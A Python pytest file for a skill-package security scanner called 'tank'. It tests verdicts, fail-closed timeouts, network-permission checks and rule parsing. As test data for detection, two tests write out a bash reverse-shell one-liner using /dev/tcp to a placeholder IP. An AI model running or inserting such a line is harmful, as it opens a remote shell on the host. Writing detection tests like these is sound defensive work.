"""The engine fails closed, finds what the analyzers find, and decides the verdict."""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from tank.core.permissions import NetworkPermission, Permissions
from tank.scanner import Confidence, Finding, Severity, Verdict, scan_files, scan_folder, verdict
from tank.scanner.analyzers.base import Context
from tank.scanner.engine import analyzers_for
from tank.scanner.model import snippet_of
from tank.scanner.report import to_text
from tank.scanner.rules import RuleError, parse_rules

ROOT = Path(__file__).resolve().parents[3]


def _finding(severity: str, category: str = "quality", confidence: str = "low") -> Finding:
    return Finding(
        "r.x", category, Severity(severity), Confidence(confidence), "f", 1, "", "m", "fix"
    )


@pytest.mark.parametrize(
    ("findings", "expected"),
    [
        ([], Verdict.PASS),
        ([_finding("info")], Verdict.PASS),
        ([_finding("low")], Verdict.PASS_WITH_NOTES),
        ([_finding("medium"), _finding("low")], Verdict.PASS_WITH_NOTES),
        ([_finding("high")], Verdict.FLAGGED),
        ([_finding("critical")], Verdict.FAIL),
        ([_finding("medium", "malware", "high")], Verdict.FAIL),
        ([_finding("high", "injection", "medium")], Verdict.FLAGGED),
        ([_finding("low", "injection", "high")], Verdict.PASS_WITH_NOTES),
    ],
)
def test_verdict(findings: list[Finding], expected: Verdict) -> None:
    assert verdict(findings) is expected


def _raising(path: str, text: str, context: Context) -> list[Finding]:
    raise RuntimeError("boom")


def test_an_analyzer_that_raises_fails_the_scan() -> None:
    result = scan_files({"SKILL.md": b"# ok\n"}, analyzers=lambda p, k: [("broken", _raising)])
    assert result.verdict is Verdict.FAIL
    assert [f.rule for f in result.findings] == ["scanner.analyzer_error"]
    assert "boom" in result.findings[0].message and result.errors


def test_a_scan_that_runs_out_of_time_fails() -> None:
    def slow(path: str, text: str, context: Context) -> list[Finding]:
        time.sleep(0.3)
        return []

    result = scan_files(
        {"SKILL.md": b"# ok\n"}, analyzers=lambda p, k: [("slow", slow)], timeout_s=0.1
    )
    assert result.verdict is Verdict.FAIL
    assert "did not finish" in result.findings[0].message


def test_an_analyzer_over_its_budget_fails() -> None:
    def slowish(path: str, text: str, context: Context) -> list[Finding]:
        time.sleep(0.06)
        return []

    result = scan_files(
        {"a.md": b"x"}, analyzers=lambda p, k: [("slowish", slowish)], timeout_s=0.1
    )
    assert result.verdict is Verdict.FAIL


def test_undeclared_network_fails_with_a_manifest_and_is_a_note_without() -> None:
    # The one policy (tank.scanner.policy): the verdict the registry applies, in tank scan too.
    code = b"import requests\nrequests.get('https://api.acme.dev/v1')\n"
    declared = Permissions(network=NetworkPermission(outbound=("other.dev",)))
    strict = scan_files({"x.py": code}, manifest_permissions=declared)
    assert strict.verdict is Verdict.FAIL
    assert 'add "api.acme.dev" to permissions.network.outbound' in strict.findings[0].message
    loose = scan_files({"x.py": code})
    assert loose.verdict is Verdict.PASS_WITH_NOTES
    ok = Permissions(network=NetworkPermission(outbound=("*.acme.dev",)))
    assert scan_files({"x.py": code}, manifest_permissions=ok).verdict is Verdict.PASS


def test_python_that_does_not_parse_never_crashes() -> None:
    result = scan_files({"x.py": b"def (:\n\x00\xff"})
    assert result.verdict in (Verdict.PASS, Verdict.PASS_WITH_NOTES)


def test_scan_folder_reads_the_published_files(tmp_path: Path) -> None:
    (tmp_path / "SKILL.md").write_text("---\nname: t\ndescription: d\n---\nHi\n")
    (tmp_path / ".git").mkdir()
    (tmp_path / ".git" / "evil.sh").write_text("bash -i >& /dev/tcp/1.2.3.4/1 0>&1\n")
    result = scan_folder(tmp_path)
    assert result.verdict is Verdict.PASS and result.files_scanned == 1


def test_snippets_escape_invisible_characters() -> None:
    assert snippet_of("a\u200bb\U000e0041") == "a\\u200bb\\U000e0041"
    assert len(snippet_of("x" * 500)) == 160


def test_analyzers_for_each_kind() -> None:
    assert {n for n, _ in analyzers_for("a.py", "python")} >= {"python", "patterns", "blobs"}
    assert "package_json" in {n for n, _ in analyzers_for("package.json", "any")}


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("rules: [{id: a.b}]", "missing or empty"),
        ("rules: [{id: a.b, bogus: 1}]", "unknown keys"),
        ("other: []", "exactly one key"),
        (
            "rules: [{id: a.b, title: t, category: c, severity: severe, confidence: high,"
            " description: d, remediation: r}]",
            "severity 'severe' is not one of",
        ),
    ],
)
def test_bad_rule_files_are_refused_with_a_clear_error(text: str, message: str) -> None:
    with pytest.raises(RuleError, match=message):
        parse_rules({"bad.yaml": text})


def test_rules_reference_is_up_to_date() -> None:
    from tank.scanner.docs import rules_markdown
    from tank.scanner.rules import load_rules

    committed = (ROOT / "docs" / "rules.md").read_text(encoding="utf-8")
    assert committed == rules_markdown(load_rules()), (
        "docs/rules.md is stale: run `python -m tank.scanner.docs > docs/rules.md`"
    )


def test_a_timed_out_scan_stops_its_worker() -> None:
    """The abandoned worker must not go on analysing (and parsing) behind the caller's back."""
    calls: list[str] = []

    def slow(path: str, text: str, context: Context) -> list[Finding]:
        time.sleep(0.3)
        return []

    def later(path: str, text: str, context: Context) -> list[Finding]:
        calls.append(path)
        return []

    result = scan_files(
        {"a.md": b"x", "b.md": b"y"},
        analyzers=lambda p, k: [("slow", slow), ("later", later)],
        timeout_s=0.1,
    )
    assert result.verdict is Verdict.FAIL
    time.sleep(0.5)
    assert calls == []


def test_a_long_api_doc_scans_quickly() -> None:
    """Thousands of curl lines once made one rule backtrack for seconds (a fail-closed
    timeout on an honest skill)."""
    line = "Use `curl https://api.acme.dev/v1/items -H 'Authorization: Bearer $TOKEN'` to list.\n"
    doc = ("---\nname: api\ndescription: d\n---\n" + line * 3000).encode()
    started = time.process_time()
    result = scan_files({"SKILL.md": doc})
    assert time.process_time() - started < 5
    assert result.verdict in (Verdict.PASS, Verdict.PASS_WITH_NOTES)


def test_a_warning_lowers_a_quoted_attack_in_prose_but_not_in_code() -> None:
    shell = "bash -i >& /dev/tcp/198.51.100.2/4444 0>&1"
    prose = scan_files({"SKILL.md": f"Attackers use `{shell}`; never run it.\n".encode()})
    code = scan_files({"run.sh": f"{shell}  # attackers use this; never run it\n".encode()})
    assert prose.verdict is Verdict.PASS_WITH_NOTES
    assert code.verdict is Verdict.FAIL


def test_downgrade_in_must_name_known_kinds() -> None:
    text = (
        "rules: [{id: a.b, title: t, category: c, severity: low, confidence: low,"
        " description: d, remediation: r, kinds: [shell], patterns: [x],"
        " downgrade_in: [prose], samples: {malicious: [{file: a, text: x}],"
        " benign: [{file: a, text: y}]}}]"
    )
    with pytest.raises(RuleError, match="downgrade_in"):
        parse_rules({"bad.yaml": text})


def test_a_timeout_is_not_reported_as_a_bug_at_line_1() -> None:
    """A large skill that outlasts the scan is told what ran out of time and what to change,
    with no made-up line; a crash is still a bug to report."""

    def slow(path: str, text: str, context: Context) -> list[Finding]:
        if path == "big.py":
            time.sleep(0.4)
        return []

    result = scan_files(
        {"a.md": b"x", "big.py": b"y"},
        analyzers=lambda p, k: [("python", slow)],
        timeout_s=0.2,
    )
    assert result.verdict is Verdict.FAIL  # still fails closed
    [finding] = result.findings
    assert finding.line == 0 and finding.file == "big.py"
    assert "python analyzer" in finding.message and "big.py" in finding.message
    assert "0.2s" in finding.message
    assert "maintainers" not in finding.remediation
    assert "--timeout" in finding.remediation and "split the skill" in finding.remediation
    assert "TANK_REGISTRY_SCAN_TIMEOUT_SECONDS" in finding.remediation
    text = to_text(result)
    assert "big.py: critical [scanner.analyzer_error]" in text and ":0:" not in text
    assert ":1:" not in text

    # One analyzer over its share of the time: the same, naming it and its file.
    def slowish(path: str, text: str, context: Context) -> list[Finding]:
        time.sleep(0.06)
        return []

    over = scan_files({"a.md": b"x"}, analyzers=lambda p, k: [("slowish", slowish)], timeout_s=0.1)
    [late] = over.findings
    assert late.line == 0 and late.file == "a.md" and "slowish analyzer" in late.message
    assert "split the skill" in late.remediation and "maintainers" not in late.remediation

    # A crash keeps the bug report.
    crash = scan_files({"SKILL.md": b"# ok\n"}, analyzers=lambda p, k: [("broken", _raising)])
    assert "maintainers" in crash.findings[0].remediation
